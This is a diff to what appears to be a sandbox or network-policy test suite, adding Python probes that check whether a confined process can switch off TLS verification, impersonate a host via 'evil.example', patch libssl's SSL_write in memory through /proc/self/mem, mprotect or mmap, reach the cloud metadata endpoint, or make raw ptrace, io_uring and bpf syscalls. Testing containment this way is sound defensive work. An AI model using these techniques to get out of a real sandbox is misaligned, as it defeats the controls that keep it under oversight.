@@ -268,6 +268,101 @@ def a17_buffer_that_changes():
     return sorted(answers - {"200", "403"})
 
 
+def unverified(host, name=None):
+    c = ssl.create_default_context(cafile=CA)
+    c.check_hostname = False
+    if name is None:
+        c.verify_mode = ssl.CERT_NONE
+        c = ssl._create_unverified_context()
+    with c.wrap_socket(dial(host), server_hostname=name or host) as s:
+        s.sendall(text(name or host, "PUT", "/denied.csv"))
+        got = s.recv(1000)
+        return [said(got), b"PEER_UNVERIFIED" in got or b"nobody has verified" in got]
+
+
+def h02_nobody_verifies():
+    return unverified(GOOD)[0]
+
+
+def h02_certificate_of_another():
+    """The name is the listed one, the server somebody else, who has a certificate for himself."""
+    c = ssl.create_default_context(cafile=CA)
+    c.check_hostname = False
+    with c.wrap_socket(dial("evil.example", 8444), server_hostname=GOOD) as s:
+        s.sendall(text(GOOD, "PUT", "/denied.csv"))
+        return said(s.recv(100))
+
+
+def h02_verified_without_saying():
+    """The handshake verifies although nobody insists."""
+    c = ssl.create_default_context(cafile=CA)
+    c.check_hostname = False
+    c.verify_mode = ssl.CERT_NONE
+    with c.wrap_socket(dial(GOOD), server_hostname=GOOD) as s:
+        s.sendall(allowed())
+        return said(s.recv(100))
+
+
+# ---- taking the guard off ---------------------------------------------------------------------------------------------
+
+
+def as_in_the_file(name):
+    """Where a function of libssl begins, and the bytes it has in the file."""
+    path = Library().path
+    at = ctypes.cast(getattr(ctypes.CDLL(path), name), ctypes.c_void_p).value
+    for line in open("/proc/self/maps"):
+        span, _, offset, _, _, *rest = line.split()
+        start, end = (int(x, 16) for x in span.split("-"))
+        if rest and rest[0] == path and start <= at < end:
+            with open(path, "rb") as f:
+                f.seek(at - start + int(offset, 16))
+                return at, f.read(32)
+    raise OSError("not found")
+
+
+def undone(write):
+    out = []
+    for name in ("SSL_write", "SSL_write_ex"):
+        try:
+            write(*as_in_the_file(name))
+            out.append("written")
+        except OSError as e:
+            out.append(errno.errorcode.get(e.errno, str(e)))
+    try:
+        lib = Library()
+        out.append(lib.talk(lib.session(BAD), text()))
+    except OSError as e:
+        out.append(errno.errorcode.get(e.errno, str(e)))
+    return "undone" if out[-1] == "200" else "held: %s" % out
+
+
+def b01_process_memory():
+    def write(at, data):
+        with open("/proc/self/mem", "r+b", buffering=0) as f:
+            f.seek(at)
+            f.write(data)
+    return undone(write)
+
+
+def b02_writable_text():
+    def write(at, data):
+        libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
+        ok(libc.mprotect(at & ~4095, 8192, 7))
+        ctypes.memmove(at, data, len(data))
+    return undone(write)
+
+
+def b04_clean_page():
+    def write(at, data):
+        page = bytearray(ctypes.string_at(at & ~4095, 8192))
+        page[at & 4095:(at & 4095) + len(data)] = data
+        libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
+        if libc.mmap(at & ~4095, 8192, 7, 0x32, -1, 0) in (None, ctypes.c_void_p(-1).value):
+            ok(-1)
+        ctypes.memmove(at & ~4095, bytes(page), len(page))
+    return undone(write)
+
+
 # ---- without TLS ------------------------------------------------------------------------------------------------------
 
 
@@ -441,6 +536,55 @@ def f02_metadata_else():
     s = dial("169.254.169.254", 80)
     s.sendall(b"GET /latest/user-data HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n")
     return said(s.recv(100))
+
+
+# ---- the kernel -------------------------------------------------------------------------------------------------------
+
+
+def by_number(nr, *args):
+    """Past libc: the function is not even called by its name."""
+    rc = libc.syscall(nr, *args)
+    return "rc %d" % rc if rc >= 0 else errno.errorcode[ctypes.get_errno()]
+
+
+def d01_ring():
+    return by_number(425, 8, ctypes.create_string_buffer(120))
+
+
+def b05_ptrace():
+    return by_number(101, 16, os.getppid(), 0, 0)
+
+
+def b03_write_memory():
+    return by_number(311, os.getpid(), None, 0, None, 0, 0)
+
+
+def b03_read_memory():
+    """Is none of ours."""
+    return by_number(310, os.getpid(), None, 0, None, 0, 0)
+
+
+def d04_d05_families():
+    out = []
+    for family, kind, protocol in ((40, 1, 0), (38, 5, 0), (17, 3, 0), (2, 3, 1), (2, 1, 132), (2, 1, 262), (2, 2, 136),
+                                   (2, 2, 1), (2, 5, 132)):
+        try:
+            socket.socket(family, kind, protocol)
+            out.append("made")
+        except OSError as e:
+            out.append(errno.errorcode.get(e.errno, str(e)))
+    return sorted(set(out) - {"EAFNOSUPPORT", "EPROTONOSUPPORT", "EPERM", "ESOCKTNOSUPPORT"})
+
+
+def d05_ordinary_families():
+    for family, kind, protocol in ((2, 1, 0), (2, 1, 6), (2, 2, 17), (10, 1, 0), (10, 2, 0), (1, 1, 0), (1, 2, 0), (1, 5, 0), (16, 3, 0),
+                                   (2, 1 | socket.SOCK_CLOEXEC | socket.SOCK_NONBLOCK, 6)):
+        socket.socket(family, kind, protocol)
+    return len(socket.getaddrinfo(BAD, 443)) > 0
+
+
+def d07_bpf():
+    return [by_number(321, 0, None, 0), by_number(298, None, 0, -1, -1, 0)]
 
 
 # ---- other programs ---------------------------------------------------------------------------------------------------
